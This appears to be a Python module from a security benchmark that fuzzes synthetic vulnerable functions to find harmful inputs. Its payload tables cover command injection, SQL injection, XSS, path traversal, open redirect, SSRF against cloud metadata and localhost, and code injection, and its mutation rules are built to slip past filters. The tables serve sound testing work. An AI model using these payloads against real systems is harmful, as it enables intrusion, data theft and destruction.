"""Inputs for a function, and the search for one that does harm. Shares no payload with the oracle."""

# ruff: noqa: E501  # tables: one class a block reads better than one word a line

from __future__ import annotations

import ast
from collections.abc import Iterator
from itertools import product
from random import Random

import msgspec

from benchmarks.oracle_audit.judges import MARK, judge_of, runs_mark
from securetag.datasets.synthetic.child import Handler, first_function
from securetag.datasets.synthetic.stage import Stage

#: Inputs that are tried of one function in one round.
MAX_INPUTS = 1_500
#: Class, guarded parameter, code, honest values.
Case = tuple[str, str, str, tuple[str, ...]]
#: What does harm, by class; `§` is where honest text may be.
_HARMS = {
    "CWE-78": [
        f";{MARK};",
        f"|{MARK}",
        f"&&{MARK}",
        f"\n{MARK}\n",
        f"$({MARK})",
        f"`{MARK}`",
        f"';{MARK};'",
        f'";{MARK};"',
        f"'\n{MARK}\n'",
        f"'$({MARK})'",
        f"x;{MARK}#",
        f"|| {MARK}",
        f"& {MARK} &",
    ],
    "CWE-89": [
        f"' OR '{MARK}'='{MARK}",
        f"' OR 1=1 -- {MARK}",
        f"0 OR 1=1 -- {MARK}",
        f"1 OR '{MARK}'='{MARK}'",
        f"'; DROP TABLE users; -- {MARK}",
        f"1; DROP TABLE users; --{MARK}",
        f"(SELECT '{MARK}')",
        f"0 UNION SELECT password FROM users -- {MARK}",
        f"' UNION SELECT '{MARK}' -- ",
        f"name LIMIT 1 -- {MARK}",
        f"'/**/OR/**/'{MARK}'<'~",
        f"1/**/OR/**/2>1/*{MARK}*/",
        f"(CASE WHEN 1=1 THEN name ELSE '{MARK}' END)",
        f"' || (SELECT '{MARK}') || '",
        f"\\' OR 1=1 -- {MARK}",
        f"name,{MARK}",
        f"'{MARK}'",
        f"-1 OR '{MARK}'",
        f"{MARK}(1)",
    ],
    "CWE-79": [
        "<script>zqx7()</script>",
        "<img src=x onerror=zqx7()>",
        "<svg/onload=zqx7()>",
        "<b>",
        "<a x>",
        '"><i>',
        "'><i>",
        '" onmouseover=zqx7() x="',
        "' onmouseover=zqx7() x='",
        " onclick=zqx7() ",
        "javascript:zqx7()",
        "JaVaScRiPt:zqx7()",
        "java\tscript:zqx7()",
        "\x01javascript:zqx7()",
        '";zqx7();//',
        "';zqx7();//",
        "</script><svg onload=zqx7()>",
        "<scr<script>ipt>zqx7()</scr</script>ipt>",
        "<ScRiPt>zqx7()</sCrIpT>",
        "<a/href=//x>",
        "data:text/html,<b>",
        '\\";zqx7();//',
        "\\';zqx7();//",
    ],
    "CWE-22": [
        "../zqx7",
        "../../etc/zqx7",
        "/etc/zqx7",
        "..//..//zqx7",
        "....//....//zqx7",
        "..././..././zqx7",
        "./../../zqx7",
        "a/../../../zqx7",
        "..\\..\\zqx7",
        "%2e%2e/zqx7",
        "..%2fzqx7",
        "//etc/zqx7",
        "..",
        "x/../../zqx7.txt",
        "..;/zqx7",
        "/srv/app-zqx7/x",
    ],
    "CWE-601": [
        "//zqx7.test",
        "https://zqx7.test/",
        "/\\zqx7.test",
        "\\\\zqx7.test",
        "https:zqx7.test",
        "https:/zqx7.test",
        "///zqx7.test",
        "https://§@zqx7.test/",
        "https://zqx7.test\\@§/",
        "\t//zqx7.test",
        "/\t/zqx7.test",
        "javascript:zqx7()",
        "HTTPS://zqx7.test",
        "https://zqx7.test/§",
        "//zqx7.test/§",
        "https://§.zqx7.test/",
        "https://zqx7.test?§",
        "https://zqx7.test#§",
        "http://zqx7.test",
        " //zqx7.test",
        "\x00//zqx7.test",
        "/%09/zqx7.test",
        "//§@zqx7.test",
        "https://§:x@zqx7.test",
    ],
    "CWE-918": [
        "http://zqx7.test/",
        "https://zqx7.test/",
        "http://169.254.169.254/",
        "http://127.0.0.1/",
        "https://§@zqx7.test/",
        "https://§.zqx7.test/",
        "https://zqx7.test/§",
        "https://zqx7.test?§",
        "https://zqx7.test#§",
        "@zqx7.test/",
        ".zqx7.test",
        ":x@zqx7.test",
        "zqx7.test",
        "zqx7.test/§",
        "http://localhost/",
        "HTTP://zqx7.test/",
        "zqx7.test#",
        "x@zqx7.test",
        "§@zqx7.test",
        "§.zqx7.test",
        "https://zqx7.test/?x=§",
        "//zqx7.test",
        "https://zqx7.test\\@§/",
        "https://zqx7.test\\.§",
    ],
    "CWE-94": [
        "zqx7()",
        "1+zqx7()",
        "1 if zqx7() else 2",
        "[zqx7() for x in [1]]",
        "(lambda: zqx7())()",
        "a.b",
        "().__class__",
        "1);zqx7(",
        "'+zqx7()+'",
        "\n1+zqx7()",
        "x\nzqx7()",
        "1 or zqx7()",
    ],
}
_HARMS["CWE-95"] = _HARMS["CWE-94"]
#: What is put before and after: what naive checks look for, and what lenient ones take off.
_AROUND = (
    "",
    " ",
    "\n",
    "\t",
    "\r\n",
    "\x00",
    "\u00a0",
    "\u2003",
    "\ufeff",
    "/",
    "\\",
    "#",
    "a",
    "1",
    "\u0661",
    "A" * 300,
)


class Exploit(msgspec.Struct, frozen=True, kw_only=True):
    """An input that does harm, and what reached the sink."""

    payload: str
    other: str
    effect: str


def search(
    case: Case,
    rng: Random,
    entry: str = "",
    *,
    framework: str = "",
    source: str = "",
    is_first: bool = True,
) -> Exploit | None:
    """Return an input of a function that does harm; None where MAX_INPUTS do none.

    `entry` names the function, or `Class.method`; by default the first function of the code. A round that
    isn't the function's first draws all inputs by chance.

    An honest request has to reach the sink, or nothing can be compared: such a function gives None, too.
    """
    cwe, variable, code, benign = case
    world = Stage()
    handler = Handler(code, entry or first_function(code), variable, world, framework, source)
    judge = judge_of(cwe, code)
    honest = []
    for value in benign:
        for other in (benign[0], value):
            handler(value, other)
            honest += world.recorder.texts
    if not honest:
        return None
    usual = set(honest)
    for payload, other in _list_inputs(cwe, code, benign, rng, is_first=is_first):
        handler(payload, other)
        for text in world.recorder.texts:
            if text in usual or (judge is runs_mark and not _may_run(text)):
                continue
            usual.add(text)  # judged once
            if all(judge(each, text) for each in dict.fromkeys(honest)):
                return Exploit(payload=payload, other=other, effect=text)
    return None


def _may_run(text: str) -> bool:
    """Spare a shell those commands in which no operator is near the mark: most of them, and each costs 2 ms."""
    return MARK in text and any(sign in text for sign in ";|&\n$`")


def _list_inputs(
    cwe: str, code: str, benign: tuple[str, ...], rng: Random, *, is_first: bool
) -> Iterator[tuple[str, str]]:
    harms = _HARMS[cwe]
    words = [*benign, *_list_constants(code)]
    inputs = _list_combined(harms, words, benign, rng) if is_first else []
    yield from inputs
    for _ in range(max(0, MAX_INPUTS - len(inputs))):
        text = rng.choice(harms).replace("§", rng.choice(words))
        for _ in range(rng.randint(1, 3)):
            text = _change(text, rng, words)
        yield text, rng.choice([benign[0], text, *words])


def _list_combined(
    harms: list[str], words: list[str], benign: tuple[str, ...], rng: Random
) -> list[tuple[str, str]]:
    """Return what does harm beside honest text, at most two thirds of a round by chance."""
    simple = [harm.replace("§", word) for harm, word in product(harms, words or [""])]
    inputs = [(text, benign[0]) for text in simple]
    inputs += [(text, text) for text in harms]
    inputs += [(word, harm.replace("§", word)) for word, harm in product(benign, harms)]
    for word, harm in product(words, harms):
        filled = harm.replace("§", word)
        inputs += [(word + filled, benign[0]), (filled + word, benign[0]), (f"{word}\n{filled}", benign[0])]
        inputs += [(f"{word}/{filled}", benign[0]), (f"{filled}\n{word}", benign[0])]
    if len(inputs) > MAX_INPUTS * 2 // 3:
        inputs = inputs[: len(simple)][:MAX_INPUTS] + rng.sample(inputs, MAX_INPUTS * 2 // 3)
    return inputs


def _change(text: str, rng: Random, words: list[str]) -> str:
    at = rng.randint(0, len(text))
    kind = rng.randrange(5)
    if kind == 0:
        return rng.choice(_AROUND) + text + rng.choice(_AROUND)
    if kind == 1:
        return text[:at] + rng.choice(words) + text[at:]
    if kind == 2:
        return "".join(char.upper() if rng.random() < 0.5 else char for char in text)
    if kind == 3:
        return text[:at] + rng.choice(_AROUND) + text[at:]
    return text.replace(" ", rng.choice(["\t", "/**/", "\n", "${IFS}"]))


def _list_constants(code: str) -> list[str]:
    """Return the texts that a function compares with: guards often look for them."""
    constants = [node.value for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Constant)]
    texts = [value for value in constants if isinstance(value, str) and 0 < len(value) <= 40]
    return list(dict.fromkeys(texts))[:8]
